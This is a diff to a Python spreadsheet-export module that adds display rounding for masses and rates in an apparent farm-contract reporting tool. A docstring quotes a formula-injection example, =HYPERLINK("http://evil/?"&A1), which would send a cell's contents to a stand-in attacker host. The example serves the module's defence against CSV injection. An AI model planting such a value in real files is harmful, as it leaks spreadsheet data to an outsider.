@@ -1,4 +1,4 @@
-"""Text for spreadsheets: cells that a registry or device wrote are never live formulas.
+"""Cells for spreadsheets: text is never a live formula, numbers are rounded for display.
 
 A site named ``=HYPERLINK("http://evil/?"&A1)`` must reach the city's reviewers as
 text. CSV has no cell types, so a text cell starting with ``=``, ``+``, ``-``, ``@``,
@@ -14,6 +14,8 @@ import io
 from collections.abc import Iterable
 
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+from farm_contract.indicators import IndicatorValue
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -47,3 +49,54 @@ def excel_text(text: str) -> str:
     """``text`` without the control characters an xlsx file cannot hold (they become U+FFFD)."""
     cleaned: str = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
     return cleaned
+
+
+# --- numbers for display -------------------------------------------------------------
+# Sums of float masses carry noise (24.831999999999997); a reader wants 24.832. Rates
+# are rounded too, but never so far that the shown number contradicts ``met``, which
+# the engine decides on the exact value (farm_contract.indicators): 0.89996 against a
+# 0.9 target keeps its fifth decimal, since 0.9000 would look met.
+
+BOM = "\ufeff"
+"""Starts every CSV meant for Excel: without it Excel on Windows reads UTF-8 as ANSI."""
+MASS_DECIMALS = 3
+RATE_DECIMALS = 4
+MOST_DECIMALS = 15
+
+
+def round_mass(value: float) -> float:
+    """Tonnes (or farms, or a ratio) to :data:`MASS_DECIMALS` decimals; never ``-0.0``."""
+    return round(value, MASS_DECIMALS) + 0.0
+
+
+def rate_decimals(value: float, target: float, met: bool, least: int = RATE_DECIMALS) -> int:
+    """Fewest decimals, at least ``least``, at which ``value`` rounded agrees with ``met``."""
+    for decimals in range(least, MOST_DECIMALS + 1):
+        if (round(value, decimals) >= target) == met:
+            return decimals
+    return MOST_DECIMALS
+
+
+def round_rate(value: float | None, target: float, met: bool) -> float | None:
+    """A rate to :data:`RATE_DECIMALS` decimals, or more where fewer would misstate ``met``."""
+    if value is None:
+        return None
+    return round(value, rate_decimals(value, target, met)) + 0.0
+
+
+def percent_format(value: float | None, target: float, met: bool) -> str:
+    """An Excel percent format with one decimal, or more where one would misstate ``met``."""
+    if value is None:
+        return "0.0%"
+    decimals = rate_decimals(value, target, met, least=3) - 2
+    return "0." + "0" * decimals + "%"
+
+
+def rounded_indicator(item: IndicatorValue) -> dict[str, object]:
+    """An indicator as JSON-ready cells, its numbers rounded for display; ``met`` as computed."""
+    data: dict[str, object] = item.model_dump(mode="json")
+    data["value"] = round_rate(item.value, item.target, item.met)
+    data["numerator"] = round_mass(item.numerator)
+    data["denominator"] = round_mass(item.denominator)
+    data["target"] = round(item.target, RATE_DECIMALS)
+    return data
